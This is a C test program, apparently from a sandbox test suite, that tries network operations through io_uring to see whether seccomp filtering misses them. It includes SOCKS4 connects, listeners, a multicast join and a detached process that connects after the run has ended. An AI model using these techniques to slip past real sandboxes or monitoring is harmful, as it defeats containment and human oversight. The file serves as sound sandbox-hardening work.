/* attack4_uring: io_uring operations seccomp never sees.
 *
 *   attack4_uring socks4 HOST4 PORT
 *       IORING_OP_CONNECT to HOST4:PORT, then a SOCKS4 CONNECT request by
 *       address (192.0.2.1:80, user "x") written with IORING_OP_SEND
 *   attack4_uring serve
 *       a TCP listener on 0.0.0.0 (port chosen by the kernel; prints
 *       "listen: ok port=P"), one connection taken with IORING_OP_ACCEPT
 *       ("accept: ok peer=A:P"), greeted with IORING_OP_SEND and closed
 *   attack4_uring serve-uring
 *       the same, with the bind and the listen done by io_uring too
 *       (IORING_OP_BIND, IORING_OP_LISTEN: Linux 6.11)
 *   attack4_uring later HOST4 PORT
 *       forks a process of a new session that makes an io_uring and a TCP
 *       socket at once (then "later: started"), and 2 s later (after the program and its run have
 *       ended), connects to HOST4:PORT with IORING_OP_CONNECT and sends
 *       "late" with IORING_OP_SEND; prints "later: started" and exits at
 *       once. The late process writes nothing.
 *   attack4_uring igmp GROUP4 IFADDR4
 *       joins the IPv4 multicast GROUP4 on the interface of IFADDR4 with a
 *       setsockopt(IP_ADD_MEMBERSHIP) done by io_uring (IORING_OP_URING_CMD,
 *       SOCKET_URING_OP_SETSOCKOPT: Linux 6.7); prints "igmp: join=ok" or
 *       "igmp: join=errno N", then waits a second for the reports to go
 *
 * Prints "setup: ok", "STEP: ok" or "STEP: errno=N"; exit status 0 when
 * every step succeeded, 1 otherwise.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <liburing.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int run_one(struct io_uring *ring) {
    int r = io_uring_submit(ring);
    if (r < 0)
        return r;
    struct io_uring_cqe *cqe;
    r = io_uring_wait_cqe(ring, &cqe);
    if (r < 0)
        return r;
    int res = cqe->res;
    io_uring_cqe_seen(ring, cqe);
    return res;
}

static int step(const char *what, int r) {
    if (r < 0) {
        printf("%s: errno=%d\n", what, -r);
        return 1;
    }
    printf("%s: ok\n", what);
    fflush(stdout);
    return 0;
}

static int socks4(const char *host, const char *port, struct io_uring *ring) {
    struct sockaddr_in sin;
    memset(&sin, 0, sizeof(sin));
    sin.sin_family = AF_INET;
    sin.sin_port = htons((unsigned short)atoi(port));
    if (inet_pton(AF_INET, host, &sin.sin_addr) != 1)
        return 2;
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct io_uring_sqe *sqe = io_uring_get_sqe(ring);
    io_uring_prep_connect(sqe, fd, (struct sockaddr *)&sin, sizeof(sin));
    if (step("uring-connect", run_one(ring)))
        return 1;
    static const char socks4[] = {4, 1, 0, 80, (char)192, 0, 2, 1, 'x', 0};
    sqe = io_uring_get_sqe(ring);
    io_uring_prep_send(sqe, fd, socks4, sizeof(socks4), MSG_NOSIGNAL);
    if (step("uring-send", run_one(ring)))
        return 1;
    /* Let the peer read it before the close. */
    usleep(200000);
    return 0;
}

/* Opcodes newer than this liburing's headers (Linux 6.11). */
#define OP_BIND 56
#define OP_LISTEN 57

/* Binds and listens with io_uring operations; 0 or -errno. */
static int uring_bind_listen(struct io_uring *ring, int l, struct sockaddr_in *sin) {
    struct io_uring_sqe *sqe = io_uring_get_sqe(ring);
    io_uring_prep_rw(OP_BIND, sqe, l, NULL, 0, 0);
    sqe->addr = (unsigned long)sin;
    sqe->addr2 = sizeof(*sin);
    int r = run_one(ring);
    if (r < 0)
        return r;
    sqe = io_uring_get_sqe(ring);
    io_uring_prep_rw(OP_LISTEN, sqe, l, NULL, 4, 0);
    return run_one(ring);
}

static int serve(struct io_uring *ring, int by_uring) {
    int l = socket(AF_INET, SOCK_STREAM, 0);
    int one = 1;
    setsockopt(l, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
    struct sockaddr_in sin;
    memset(&sin, 0, sizeof(sin));
    sin.sin_family = AF_INET;
    socklen_t len = sizeof(sin);
    int r = by_uring ? uring_bind_listen(ring, l, &sin)
                     : (bind(l, (struct sockaddr *)&sin, sizeof(sin)) != 0 || listen(l, 4) != 0) ? -errno : 0;
    if (r < 0 || getsockname(l, (struct sockaddr *)&sin, &len) != 0) {
        printf("listen: errno=%d\n", r < 0 ? -r : errno);
        return 1;
    }
    printf("listen: ok port=%d\n", ntohs(sin.sin_port));
    fflush(stdout);
    struct sockaddr_in peer;
    socklen_t peer_len = sizeof(peer);
    struct io_uring_sqe *sqe = io_uring_get_sqe(ring);
    io_uring_prep_accept(sqe, l, (struct sockaddr *)&peer, &peer_len, 0);
    int c = run_one(ring);
    if (c < 0)
        return step("accept", c);
    char text[INET_ADDRSTRLEN] = "?";
    inet_ntop(AF_INET, &peer.sin_addr, text, sizeof(text));
    printf("accept: ok peer=%s:%d\n", text, ntohs(peer.sin_port));
    fflush(stdout);
    static const char hello[] = "hello-from-server";
    sqe = io_uring_get_sqe(ring);
    io_uring_prep_send(sqe, c, hello, sizeof(hello) - 1, MSG_NOSIGNAL);
    r = step("uring-send", run_one(ring));
    close(c);
    return r;
}

/* Raw SQE fields newer than this liburing's headers (Linux 6.7). */
#define OP_URING_CMD 46
#define SOCKET_URING_OP_SETSOCKOPT 3

/* setsockopt(fd, level, name, val, len) as an io_uring command. */
static int uring_setsockopt(struct io_uring *ring, int fd, int level, int name, void *val, unsigned len) {
    struct io_uring_sqe *sqe = io_uring_get_sqe(ring);
    unsigned char *raw = (unsigned char *)sqe;
    memset(raw, 0, 64);
    raw[0] = OP_URING_CMD;
    memcpy(raw + 4, &fd, 4);
    unsigned op = SOCKET_URING_OP_SETSOCKOPT;
    memcpy(raw + 8, &op, 4);     /* cmd_op */
    memcpy(raw + 16, &level, 4); /* level */
    memcpy(raw + 20, &name, 4);  /* optname */
    memcpy(raw + 44, &len, 4);   /* optlen */
    unsigned long long ptr = (unsigned long)val;
    memcpy(raw + 48, &ptr, 8); /* optval */
    return run_one(ring);
}

static int igmp(struct io_uring *ring, const char *group, const char *ifaddr) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct ip_mreq mreq;
    memset(&mreq, 0, sizeof mreq);
    if (inet_pton(AF_INET, group, &mreq.imr_multiaddr) != 1 || inet_pton(AF_INET, ifaddr, &mreq.imr_interface) != 1)
        return 2;
    int r = uring_setsockopt(ring, s, IPPROTO_IP, IP_ADD_MEMBERSHIP, &mreq, sizeof mreq);
    if (r < 0)
        printf("igmp: join=errno %d\n", -r);
    else
        printf("igmp: join=ok\n");
    fflush(stdout);
    sleep(1);
    return r < 0;
}

static int later(const char *host, const char *port) {
    struct sockaddr_in sin;
    memset(&sin, 0, sizeof(sin));
    sin.sin_family = AF_INET;
    sin.sin_port = htons((unsigned short)atoi(port));
    if (inet_pton(AF_INET, host, &sin.sin_addr) != 1)
        return 2;
    fflush(stdout);
    int ready[2];
    if (pipe(ready) != 0)
        return 1;
    pid_t pid = fork();
    if (pid < 0)
        return 1;
    if (pid > 0) {
        /* Once the late process has its ring and its socket. */
        char c;
        close(ready[1]);
        if (read(ready[0], &c, 1) != 1)
            return 1;
        printf("later: started\n");
        return 0;
    }
    close(ready[0]);
    setsid();
    int null = open("/dev/null", O_RDWR);
    dup2(null, 0);
    dup2(null, 1);
    dup2(null, 2);
    struct io_uring ring;
    if (io_uring_queue_init(8, &ring, 0) < 0)
        _exit(1);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0 || write(ready[1], "r", 1) != 1)
        _exit(1);
    close(ready[1]);
    sleep(2);
    struct io_uring_sqe *sqe = io_uring_get_sqe(&ring);
    io_uring_prep_connect(sqe, fd, (struct sockaddr *)&sin, sizeof(sin));
    if (run_one(&ring) < 0)
        _exit(1);
    sqe = io_uring_get_sqe(&ring);
    io_uring_prep_send(sqe, fd, "late", 4, MSG_NOSIGNAL);
    run_one(&ring);
    usleep(200000);
    _exit(0);
}

int main(int argc, char **argv) {
    struct io_uring ring;
    if (argc < 2)
        goto usage;
    if (strcmp(argv[1], "later") == 0 && argc == 4)
        return later(argv[2], argv[3]);
    if (step("setup", io_uring_queue_init(8, &ring, 0)))
        return 1;
    if (strcmp(argv[1], "socks4") == 0 && argc == 4)
        return socks4(argv[2], argv[3], &ring);
    if (strcmp(argv[1], "serve") == 0 && argc == 2)
        return serve(&ring, 0);
    if (strcmp(argv[1], "igmp") == 0 && argc == 4)
        return igmp(&ring, argv[2], argv[3]);
    if (strcmp(argv[1], "serve-uring") == 0 && argc == 2)
        return serve(&ring, 1);
usage:
    fprintf(stderr, "usage: attack4_uring socks4 HOST4 PORT | serve | serve-uring | later HOST4 PORT | igmp GROUP4 IFADDR4\n");
    return 2;
}
